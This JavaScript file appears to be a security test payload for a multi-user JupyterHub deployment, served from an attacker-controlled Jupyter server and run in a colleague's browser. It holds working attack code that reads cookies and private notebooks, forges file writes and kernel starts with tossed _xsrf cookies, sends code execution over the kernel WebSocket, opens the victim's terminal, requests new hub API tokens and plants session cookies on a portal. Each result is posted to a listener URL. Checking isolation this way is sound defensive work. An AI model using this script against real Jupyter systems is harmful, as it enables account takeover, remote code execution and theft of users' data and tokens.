// A member's attack on a colleague who opens a link to the member's own server. Served by the
// attacker's server from its own jupyter_server configuration (extra_static_paths), run in the
// victim's browser. Every attempt is reported, with whatever it obtained, to the test's listener.
(async function () {
  const params = new URLSearchParams(location.search);
  const victim = params.get("victim");
  const hub = params.get("hub") + "/hubs/1";  // the hub origin
  const victimServer = params.get("server");  // the colleague's server, on its own host
  const victimSocket = victimServer.replace(/^http/, "ws");
  const sharedServer = `${hub}/user/${victim}`;  // where the colleague's server was before hosts of its own
  const portal = params.get("portal");
  const report = { victim: victim, origin: location.origin, attempts: {} };

  async function attempt(name, action) {
    try {
      report.attempts[name] = String(await action()).slice(0, 4000);
    } catch (error) {
      report.attempts[name] = "refused: " + error;
    }
  }

  async function read(url, options) {
    const response = await fetch(url, Object.assign({ credentials: "include", cache: "no-store" }, options));
    return response.status + " " + (await response.text());
  }

  async function framed(url) {
    const frame = document.createElement("iframe");
    frame.src = url;
    document.body.appendChild(frame);
    await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 5000); });
    return frame.contentWindow.document.documentElement.outerHTML;  // throws unless same-origin
  }

  function socket(url, message) {
    return new Promise((resolve) => {
      const ws = new WebSocket(url);
      ws.onopen = () => { if (message) ws.send(JSON.stringify(message)); setTimeout(() => resolve("opened"), 2000); };
      ws.onmessage = (event) => resolve("received " + event.data);
      ws.onerror = () => resolve("refused");
      setTimeout(() => resolve("no answer"), 5000);
    });
  }

  await attempt("cookies on this host", () => document.cookie);
  await attempt("colleague's file listing", () => read(`${victimServer}/api/contents`));
  await attempt("colleague's secret notebook", () => read(`${victimServer}/api/contents/secret.ipynb`));
  await attempt("colleague's file download", () => read(`${victimServer}/files/secret.ipynb`));
  await attempt("colleague's listing on the hub host", () => read(`${sharedServer}/api/contents`));
  await attempt("colleague's JupyterLab framed", () => framed(`${victimServer}/lab`));
  await attempt("colleague's JupyterLab framed on the hub host", () => framed(`${sharedServer}/lab`));
  await attempt("write a file in the colleague's files", () => read(`${victimServer}/api/contents/pwned.txt`, {
    method: "PUT", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ type: "file", format: "text", content: "pwned" }) }));
  await attempt("write a file by a simple POST", () => read(`${victimServer}/api/contents`, {
    method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" },
    body: JSON.stringify({ type: "file", ext: ".txt" }) }).then(() => "sent"));
  await attempt("start a kernel in the colleague's server", () => read(`${victimServer}/api/kernels`, {
    method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" }).then(() => "sent"));
  await attempt("write a file with a tossed _xsrf cookie", () => {
    const hubDomain = new URL(hub).hostname;  // a parent of every member's host: its cookies reach them all
    document.cookie = `_xsrf=tossed; domain=${hubDomain}; path=/`;
    return read(`${victimServer}/api/contents?_xsrf=tossed`, {
      method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" },
      body: JSON.stringify({ type: "file", ext: ".txt" }) }).then(() => "sent");
  });
  await attempt("start a kernel with a tossed _xsrf cookie", () => read(`${victimServer}/api/kernels?_xsrf=tossed`, {
    method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" }).then(() => "sent"));
  const execute = { header: { msg_id: "attack", msg_type: "execute_request", username: victim, session: "attack",
                              version: "5.3" },
                    parent_header: {}, metadata: {}, channel: "shell",
                    content: { code: "open('/tmp/pwned-by-attacker', 'w').write('pwned')", silent: false } };
  await attempt("run code in the colleague's kernel", () => socket(
    `${victimSocket}/api/kernels/${params.get("kernel")}/channels`, execute));
  await attempt("the colleague's terminal", () => socket(`${victimSocket}/terminals/websocket/1`, ["stdin", "id\r"]));
  await attempt("the hub's user model", () => read(`${hub}/hub/api/user`));
  await attempt("the hub's user list (admins)", () => read(`${hub}/hub/api/users`));
  await attempt("a new hub token", () => read(`${hub}/hub/api/users/${victim}/tokens`, {
    method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" }));
  await attempt("the hub's token page", () => read(`${hub}/hub/token`));
  await attempt("the hub's token page framed", () => framed(`${hub}/hub/token`));
  await attempt("the portal's discovery answer", () => read(`${portal}/api/discovery/v1/me`));
  await attempt("the portal's home page framed", () => framed(`${portal}/`));
  await attempt("toss a session cookie onto the portal", () => {
    const domain = new URL(portal).hostname;
    document.cookie = `appliance_session=tossed; domain=${domain}; path=/`;
    document.cookie = `__Host-appliance_session=tossed; domain=${domain}; path=/; secure`;
    return document.cookie;
  });

  await fetch(params.get("listener"), { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" },
                                        body: JSON.stringify(report) });
  document.title = "attack done";
})();
